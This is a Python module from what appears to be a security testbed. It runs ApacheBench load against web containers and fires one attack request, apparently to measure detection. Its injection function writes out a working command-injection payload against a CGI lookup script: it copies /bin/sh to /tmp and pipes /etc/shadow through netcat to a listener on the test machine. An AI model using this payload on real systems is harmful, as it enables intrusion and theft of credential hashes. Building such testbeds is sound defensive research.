"""What happens to the containers: load by `ab`, and one request that is an attack.

    with Listener(web.gateway) as listener:
        struck = attack(web.running[0], listener)   # struck.sent: wall time just before the request left

Rules of this file
    - Load and attack come from this machine, outside the workers: no record of theirs is in a worker's log.
    - The attack is one HTTP request. A shell below the web server copies itself to /tmp, the copy reads /etc/shadow and
      sends it here. That it arrived is checked: an attack that failed measures nothing.
    - `mark` names the copy: another name is another behaviour, for runs that attack more than once.
"""

from __future__ import annotations

import re
import shlex
import socket
import subprocess
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass
from types import TracebackType
from typing import Final
from urllib.parse import quote

from .containers import Container
from .tell import TestbedError, escaped

PORT: Final = 80
PATIENCE: Final = 10.0
MARK: Final = re.compile(r"[A-Za-z0-9._-]{1,64}")
# ab stops at the first of the two; this many requests are more than any run makes.
ENDLESS: Final = 5_000_000


@dataclass(frozen=True, slots=True)
class Load:
    """What ab saw on one container: requests, those that failed, per second, and milliseconds for 50 % and 99 %."""

    requests: int
    failed: int
    seconds: float
    rate: float
    median: int
    p99: int


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: wall time just before the request left, when the loot arrived here, and the loot."""

    container: str
    sent: float
    arrived: float
    stolen: bytes


def load(
    containers: Sequence[Container], *, seconds: float, concurrency: int = 8, path: str = "/page7.html"
) -> list[Load]:
    """Run ab on every container at once, `concurrency` connections each; one row per container."""
    started = [begin_load(one, seconds=seconds, concurrency=concurrency, path=path) for one in containers]
    return [end_load(process, seconds + 60) for process in started]


def begin_load(
    container: Container, *, seconds: float, concurrency: int = 8, path: str = "/page7.html"
) -> subprocess.Popen[str]:
    """Start ab on one container and do not wait: for what happens under load. `end_load` gives its row."""
    command = ["ab", "-q", "-r", "-s", "60", "-c", str(concurrency), "-t", str(max(1, round(seconds)))]
    return subprocess.Popen(
        [*command, "-n", str(ENDLESS), f"http://{container.address}:{PORT}{path}"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def end_load(process: subprocess.Popen[str], timeout: float) -> Load:
    """Wait for ab and read its figures."""
    try:
        out, err = process.communicate(timeout=timeout)
    except BaseException:
        process.kill()
        process.wait()
        raise
    if process.returncode:
        raise TestbedError(f"ab failed with exit code {process.returncode}: {escaped(err.strip()[-300:])}")
    return parse_ab(out)


def parse_ab(text: str) -> Load:
    """The figures in what ab prints; `TestbedError` if they are not there."""
    return Load(
        requests=int(_figure(r"Complete requests:\s+(\d+)", text)),
        failed=int(_figure(r"Failed requests:\s+(\d+)", text)) + int(_figure(r"Non-2xx responses:\s+(\d+)", text, "0")),
        seconds=float(_figure(r"Time taken for tests:\s+([\d.]+)", text)),
        rate=float(_figure(r"Requests per second:\s+([\d.]+)", text)),
        median=int(_figure(r"\n\s*50%\s+(\d+)", text)),
        p99=int(_figure(r"\n\s*99%\s+(\d+)", text)),
    )


class Listener:
    """Where the loot goes: one TCP port of this machine on the containers' network. Each connection is one message."""

    def __init__(self, address: str) -> None:
        self.socket = socket.create_server((address, 0))
        self.socket.settimeout(PATIENCE)
        self.address, self.port = self.socket.getsockname()[:2]

    def __enter__(self) -> Listener:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.socket.close()

    def receive(self) -> bytes:
        """The next message, whole; at most 64 kB of it. Empty if none comes within ten seconds."""
        try:
            connection, _ = self.socket.accept()
        except TimeoutError:
            return b""
        with connection:
            connection.settimeout(PATIENCE)
            parts = bytearray()
            while len(parts) < 1 << 16 and (part := connection.recv(4096)):
                parts += part
        return bytes(parts)


def attack(container: Container, listener: Listener, *, mark: str = "dbus-helper") -> Attack:
    """Make the request and wait for the loot. `TestbedError` if it does not come."""
    request = _request(container.address, injection(listener, mark))
    loot: list[tuple[float, bytes]] = []
    receiver = threading.Thread(target=_receive, args=(listener, loot), daemon=True)
    receiver.start()
    with socket.create_connection((container.address, PORT), timeout=PATIENCE) as connection:
        sent = time.time()
        connection.sendall(request)
        while connection.recv(4096):
            pass
    receiver.join(PATIENCE)
    if not loot or not loot[0][1].startswith(b"root:"):
        raise TestbedError(f"the attack on {container.name} brought nothing")
    return Attack(container.name, sent, *loot[0])


def look_up(container: Container, host: str = "localhost") -> bytes:
    """The same script used as it is meant to be: what it answers."""
    with socket.create_connection((container.address, PORT), timeout=PATIENCE) as connection:
        connection.sendall(_request(container.address, host))
        parts = bytearray()
        while part := connection.recv(4096):
            parts += part
    return bytes(parts).partition(b"\r\n\r\n")[2]


def injection(listener: Listener, mark: str) -> str:
    """The parameter that is a host name and a program."""
    if not MARK.fullmatch(mark):
        raise ValueError("a mark is letters, digits, dots and dashes")
    copy = f"/tmp/{mark}"
    steal = f"cat /etc/shadow | nc -N {listener.address} {listener.port}"
    return f"localhost; cp /bin/sh {copy}; {copy} -c {shlex.quote(steal)}"


def _request(address: str, host: str) -> bytes:
    target = f"/cgi-bin/lookup?host={quote(host, safe='')}"
    return f"GET {target} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n".encode("ascii")


def _receive(listener: Listener, loot: list[tuple[float, bytes]]) -> None:
    stolen = listener.receive()
    loot.append((time.time(), stolen))


def _figure(pattern: str, text: str, otherwise: str | None = None) -> str:
    found = re.search(pattern, text)
    if found is None and otherwise is None:
        raise TestbedError("ab printed no such figure: " + pattern)
    return found[1] if found else str(otherwise)
